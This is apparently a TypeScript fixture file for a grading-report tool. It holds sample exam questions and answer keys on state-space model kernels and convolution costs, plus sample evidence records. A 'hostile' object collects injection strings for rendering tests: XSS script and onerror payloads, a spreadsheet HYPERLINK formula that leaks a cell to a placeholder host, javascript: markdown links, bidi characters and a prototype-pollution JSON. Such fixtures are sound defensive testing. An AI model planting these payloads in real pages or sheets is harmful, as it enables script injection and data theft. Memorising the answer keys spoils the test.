/** Questions, every kind of evidence, and hostile strings: what the sample report is made of. */
import type { QuestionReport } from '#grade';
import { reject, type Evidence, type Json } from '#checks';

const question = (id: string, kind: string, prompt: string, more: Partial<QuestionReport> = {}): QuestionReport => ({
  id,
  part: id.split('.')[0]!,
  kind,
  prompt,
  points: 2,
  ...more,
});

export const questions: readonly QuestionReport[] = [
  question('1a.kernel', 'formula', 'Give the kernel $K_\\ell$ for $\\ell \\ge 1$ in terms of $A$, $B$ and $C$.', {
    law: 'ssm-kernel',
    key: { text: 'C A^(l-1) B', latex: 'C A^{\\ell-1} B' },
  }),
  question('1b.scalar', 'vector', 'The kernel up to $L = 4$ for $A = 0.8$, $B = 1$, $C = 1.5$, $D = 0$.', {
    law: 'ssm-kernel',
    key: { text: '[0, 3/2, 6/5, 24/25, 96/125]' },
  }),
  question(
    '1c.convolution.span',
    'cost',
    'Critical path of the convolution $y_k = \\sum_{\\ell} K_\\ell u_{k-\\ell}$, all $k$ at once.',
    {
      law: 'causal-convolution',
      key: { text: 'Theta(log d + log L), counted 1 + c(d) + c(L)', latex: '\\Theta(\\log d + \\log L)' },
      staff: {
        key: 'O(log L * log d)',
        agrees: false,
        verdict: reject('a product of logs where the counted span is a sum: take d = L = t', { class: 'loose' }),
      },
    },
  ),
  question('1c.naive.span', 'cost', 'Critical path of the recurrence, step by step.', {
    key: { text: 'Theta(L log n)', latex: '\\Theta(L \\log n)' },
  }),
  question('1d.work', 'cost', 'Work of your way to all of $K_0, \\dots, K_L$.', {
    key: { text: 'Theta(n^3 L log L)', latex: '\\Theta(n^3 L \\log L)' },
  }),
  question('1e.discussion', 'text', 'What does the kernel say about memory?'),
  question('4b.lambda', 'interval', 'For which $\\lambda$ is $\\|\\hat x\\| \\le 1$?', {
    key: { text: '1 <= lambda <= 4', latex: '1 \\le \\lambda \\le 4' },
  }),
  question('4f', 'recurrence', 'Causal ridge attention as a recurrence: state, update, output.', {
    law: 'causal-ridge-attention',
    points: 5,
  }),
];

export const formula = (text: string, latex: string, notes: readonly string[] = []) => ({ text, latex, notes });

const counterexample: Evidence = {
  type: 'counterexample',
  inputs: {
    A: '[[1, 1], [0, 2]]',
    B: '[[0], [1]]',
    C: '[[1, -2/3]]',
    '\\ell': '2',
    u: '[[[1, 0], [0, 1]], [[2, 0], [0, 2]]]',
  },
  answer: '[[-1/3]]',
  key: '[[-2/3]]',
  over: 'rationals, n = 2, d = 1, m = 1',
};
export const counts: Extract<Evidence, { readonly type: 'counts' }> = {
  type: 'counts',
  quantity: 'span',
  along: 'L',
  points: [1, 2, 4, 8, 16, 32, 64, 128, 256, 512].map((L) => ({
    at: { d: 4, L },
    counted: 3 + 4 * L,
    claimed: 3 + Math.log2(L),
  })),
  formula: '4L + 3',
};
export const every: readonly Evidence[] = [
  counterexample,
  { type: 'shape', text: 'B A is d×n times n×n: the columns of B are d, the rows of A are n' },
  { type: 'mistake', law: 'ssm-kernel', mutant: 'the power is one too high' },
  { type: 'trials', text: '24 random points of GF(2013265921), 4 size assignments' },
  { type: 'remark', text: 'the transcript prints the same slip twice' },
];

export const hostile = {
  script: '<script>document.title = "owned"</script><img src=x onerror="document.title=1">',
  direction: 'right \u202Eleft\u202C, none\u200B, nul\u0000, half \uD800',
  long: '0123456789 '.repeat(9_310),
  formula: '=HYPERLINK("https://example.invalid/?leak="&A1,"total")',
  markdown:
    '](javascript:alert(1)) | ![x](https://example.invalid/x.png) `` ` `` $\\href{javascript:alert(1)}{x}$\n# heading',
};
export const deep = JSON.parse(`${'['.repeat(5_000)}1${']'.repeat(5_000)}`) as Json; // what JSON.parse gives is Json
export const proto = JSON.parse('{"__proto__": {"polluted": true}, "constructor": "x"}') as Json; // likewise
